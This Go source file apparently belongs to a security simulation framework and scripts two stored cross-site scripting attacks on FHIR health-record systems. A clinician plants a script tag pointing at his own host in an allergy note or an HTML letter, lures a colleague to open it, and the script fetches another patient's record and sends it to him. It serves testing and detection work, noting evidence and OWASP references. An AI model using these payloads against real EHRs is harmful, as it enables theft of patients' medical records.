package attacker

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
)

// What a client shows of a record somebody else wrote. The thief treats a patient whom the clinician treats too, and
// writes into that patient's record, as he may; then he asks her to have a look.

const beyondContent = "FAPI 2.0 protects tokens on their way and in the backend. What comes back from the API, and what the client's page makes of it, " +
	"is outside; to the API the script is the client at work."

var _ = register("F-27", Technique{
	Variant: "narrative",
	Title:   "A note runs in the page of whoever reads it",
	Story: "The thief is a doctor, and a patient of his has a general practitioner too. He writes an allergy into the record, with a script in the text that people are to read, and asks her " +
		"to look at it. Her EHR puts the text into its page as it came. The script asks for another patient's record, which she may open, and sends it to the thief.",
	Reads:    []string{"OWASP API10:2023", "FHIR R4 narrative, txt-1", "SMART App Launch 2.2, App protection"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{PagesWithoutPolicy: true},
	Beyond:   beyondContent,
	Evidence: "In what is stored, a narrative with more than formatting in it; no line of a log tells. At the client, a record fetched by a script (Sec-Fetch-Mode).",
	Run: func(ctx context.Context, g Ground) error {
		newSite(g)
		a, t, err := writersToken(ctx, g)
		if err != nil {
			return err
		}
		note := must(json.Marshal(map[string]any{
			"resourceType": "AllergyIntolerance", "code": map[string]string{"text": "Penicillin"}, "patient": map[string]string{"reference": "Patient/" + g.Target().SharedPatient},
			"text": map[string]string{"status": "additional", "div": `<div xmlns="http://www.w3.org/1999/xhtml">Rash after <b>penicillin</b>, May 2019.` + scriptElement(g) + `</div>`},
		}))
		ans, err := a.write(ctx, http.MethodPost, g.Target().FHIRBase+"/AllergyIntolerance", note, t)
		if err != nil || !ans.ok() {
			return orStopped(err)
		}
		s, err := lureToRead(g, "")
		if err != nil {
			return err
		}
		page, err := s.Fetch(ctx, g.Target().ClientRecord+stranger(g))
		if err != nil {
			return err
		}
		return sendPage(ctx, g, s, page)
	},
})

var _ = register("F-27/document", Technique{
	Variant: "document",
	Title:   "A letter runs in the page of whoever reads it",
	Story: "Instead of a note the thief files a letter, as HTML. FHIR lets a document be of any type, so that the API has nothing to object to. The clinician's EHR shows it in place, as part of " +
		"its own page, and the script in it opens another record in a window that she does not see.",
	Reads:    []string{"OWASP API10:2023", "FHIR R4 DocumentReference.content", "SMART App Launch 2.2, App protection"},
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{PagesWithoutPolicy: true, OwnScope: documentScope},
	Beyond:   beyondContent,
	Evidence: "A document of the type text/html by a client that files none; the record that the script opens is opened as she would.",
	Run: func(ctx context.Context, g Ground) error {
		newSite(g)
		letter := base64.StdEncoding.EncodeToString([]byte("<p>Dear colleague,</p><p>thank you for <b>your patient</b>.</p>" + scriptElement(g)))
		if err := fileDocument(ctx, g, map[string]string{"contentType": "text/html", "title": "Letter", "data": letter}); err != nil {
			return err
		}
		s, err := lureToRead(g, "/documents")
		if err != nil {
			return err
		}
		page, err := s.Open(ctx, g.Target().ClientRecord+stranger(g))
		if err != nil {
			return err
		}
		return sendPage(ctx, g, s, page)
	},
})

// documentScope is what it takes to file documents.
const documentScope = "user/DocumentReference.cu"

func scriptElement(g Ground) string {
	return `<script src="https://` + g.Target().OwnHost + `/note.js"></script>`
}

// fileDocument writes a DocumentReference into the record of the patient whom both treat. Documents take a strong sign-in
// where the API asks for one, and the thief has his own key card.
func fileDocument(ctx context.Context, g Ground, attachment map[string]string) error {
	a, err := ownApp(ctx, g)
	if err != nil {
		return err
	}
	t, err := a.signInAs(ctx, "openid "+documentScope, g.Target().FHIRBase, func(form url.Values) { form.Set("acr_values", "loa-high") })
	if err != nil {
		return err
	}
	document := must(json.Marshal(map[string]any{
		"resourceType": "DocumentReference", "status": "current", "subject": map[string]string{"reference": "Patient/" + g.Target().SharedPatient},
		"content": []any{map[string]any{"attachment": attachment}},
	}))
	ans, err := a.write(ctx, http.MethodPost, g.Target().FHIRBase+"/DocumentReference", document, t)
	if err != nil || !ans.ok() {
		return orStopped(err)
	}
	return nil
}

// lureToRead gets the clinician to open the patient's page in her EHR, and returns the script that it has loaded.
func lureToRead(g Ground, page string) (Script, error) {
	if err := g.Lure(g.Target().ClientRecord + g.Target().SharedPatient + page); err != nil {
		return nil, err
	}
	return g.Script()
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b
}
